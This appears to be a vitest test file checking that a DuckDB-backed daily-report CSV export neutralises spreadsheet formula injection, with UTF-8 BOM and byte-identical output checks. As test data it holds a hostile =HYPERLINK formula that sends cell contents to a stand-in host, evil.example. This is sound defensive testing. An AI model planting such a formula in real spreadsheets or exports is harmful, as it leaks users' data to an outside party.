// The daily-report CSV against hostile text on DuckDB: a participant named like a spreadsheet
// formula (and every other STRING column starting with = + - @ TAB CR) is exported with a leading
// ', numbers keep their sign, the file is UTF-8 with a BOM ("García" intact), and the report view's
// /reports/D.csv writer produces the same bytes from the same rows.
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createFileArchive } from '../core/adapters/local/file-archive.ts';
import { silentLogger } from '../core/log.ts';
import type { Archive } from '../core/ports.ts';
import { loadReportDay, toReportCsv } from '../core/warehouse/report-day.ts';
import { parseCsv } from '../core/csv.ts';
import { createDuckDbEngine } from '../core/adapters/local/duckdb-engine.ts';
import type { SqlEngine } from '../core/warehouse/sql-engine.ts';
import { exportKey } from '../core/warehouse/report-contract.ts';
import { runExport } from './report.ts';
import { parseCreateTable } from '../core/warehouse/bigquery-schema.ts';
import { tableDdls } from '../core/warehouse/sql-files.ts';

const DATE = '2026-02-03';
const HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1)';
const PREFIXES = ['+', '-', '@', '\t', '\r', '='];
const COLUMNS = parseCreateTable(tableDdls().get('daily_reports') ?? '').columns;
const TEXT = COLUMNS.filter((c) => c.type === 'STRING').map((c) => c.name);

/** One daily_reports row: every STRING column formula-like (participant_name the HYPERLINK). */
function hostileRow(): Record<string, string> {
  const values: Record<string, string> = {};
  COLUMNS.forEach((c, i) => {
    if (c.name === 'participant_name') values[c.name] = HOSTILE;
    else if (c.type === 'STRING') values[c.name] = `${PREFIXES[i % PREFIXES.length]}${c.name}`;
    else if (c.type === 'DATE') values[c.name] = DATE;
    else if (c.type === 'TIMESTAMP') values[c.name] = `${DATE}T09:00:00Z`;
    else if (c.name === 'room_number') values[c.name] = '-1';
    else values[c.name] = '12.5';
  });
  return values;
}

function insertSql(rows: Record<string, string>[]): string {
  const literal = (c: (typeof COLUMNS)[number], v: string): string => {
    const quoted = `'${v.replace(/'/g, "''")}'`;
    return c.type === 'STRING' ? quoted : `CAST(${quoted} AS ${c.type})`;
  };
  const tuples = rows.map(
    (r) => `SELECT ${COLUMNS.map((c) => `${literal(c, r[c.name] ?? '')} AS ${c.name}`).join(', ')}`,
  );
  return `INSERT INTO zoom_tracker.daily_reports (${COLUMNS.map((c) => c.name).join(', ')})\n${tuples.join('\nUNION ALL\n')}`;
}

describe('daily-report CSV with hostile text (DuckDB)', () => {
  let dir: string;
  let archive: Archive;
  let engine: SqlEngine;
  const friendly = { ...hostileRow(), participant_name: 'García', participant_key: 'k-garcia' };

  beforeAll(async () => {
    dir = await mkdtemp(join(tmpdir(), 'csv-export-'));
    archive = createFileArchive(join(dir, 'gcs'));
    engine = await createDuckDbEngine({ path: join(dir, 'warehouse.duckdb'), archive });
    // The rows go straight into daily_reports: this is about the export step, not the report query.
    await engine.transaction([{ sql: insertSql([hostileRow(), friendly]), params: {} }]);
  });
  afterAll(async () => {
    await engine?.close();
    await rm(dir, { recursive: true, force: true });
  });

  it("exports every formula-like text cell with a leading ', numbers as they are, UTF-8 with a BOM", async () => {
    await runExport({ engine, log: silentLogger(), timeZone: 'UTC' }, { date: DATE });
    const bytes = (await archive.get(exportKey(DATE))) ?? Buffer.alloc(0);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(bytes.includes(Buffer.from('García', 'utf8'))).toBe(true);
    const [header = [], ...rows] = parseCsv(bytes.toString('utf8')).map(([, f]) => f);
    const hostile = Object.fromEntries(
      header.map((h, i) => [h, rows.find((r) => r.includes(`'${HOSTILE}`))?.[i]]),
    );
    const source = hostileRow();
    for (const column of header) {
      if (TEXT.includes(column)) expect(hostile[column], column).toBe(`'${source[column]}`);
    }
    expect(hostile['participant_name']).toBe(`'${HOSTILE}`);
    expect(hostile['room_number']).toBe('-1');
    expect(hostile['meeting_duration_mins']).toBe('12.50');
    expect(hostile['meeting_join_time']).toBe(`${DATE}T09:00:00Z`);
    // The raw line: quotes doubled, the CR field quoted, no cell starts a formula.
    const text = bytes.toString('utf8');
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1)"`);
  });

  it('the report view writes the same bytes for /reports/D.csv', async () => {
    const exported = await archive.get(exportKey(DATE));
    const day = await loadReportDay({ engine, archive }, DATE);
    expect(day.rows).toHaveLength(2);
    expect(Buffer.from(toReportCsv(day.rows), 'utf8').equals(exported ?? Buffer.alloc(0))).toBe(true);
  });
});
